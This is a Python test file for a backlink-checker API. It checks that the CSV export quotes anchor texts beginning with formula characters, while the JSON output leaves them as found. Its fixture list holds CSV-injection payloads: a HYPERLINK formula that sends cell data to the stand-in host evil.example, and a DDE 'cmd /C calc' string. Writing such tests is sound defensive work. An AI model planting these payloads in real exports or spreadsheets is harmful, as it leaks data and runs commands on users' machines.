"""The check's CSV cannot run formulas: anchor texts come from pages strangers write, so a
cell that begins with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`
(API.md, Conventions) while the JSON answer keeps the text as found."""

from __future__ import annotations

import csv
import io

from tests.checker.sites import FixtureSite
from tests.conftest import LiveServer

ANCHORS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "Plain = text",
]


async def test_formula_anchor_texts_are_quoted_in_the_csv_only(
    site: FixtureSite, app_server: LiveServer
) -> None:
    urls = [
        site.page(f"/formula-{i}", f'<a href="https://example.com/">{text}</a>')
        for i, text in enumerate(ANCHORS)
    ]
    body = {"domain": "example.com", "urls": urls}
    assert app_server.http
    async with app_server.http.post("/api/v1/public/check-backlinks", json=body) as response:
        report = await response.json()
    assert [r["anchorText"] for r in report["results"]] == ANCHORS
    async with app_server.http.post(
        "/api/v1/public/check-backlinks", json=body, params={"format": "csv"}
    ) as response:
        assert response.status == 200
        rows = list(csv.DictReader(io.StringIO(await response.text())))
    assert [r["anchorText"] for r in rows] == [
        "'" + text if text[0] in "=+-@" else text for text in ANCHORS
    ]
    assert [r["url"] for r in rows] == urls and {r["hasLink"] for r in rows} == {"true"}
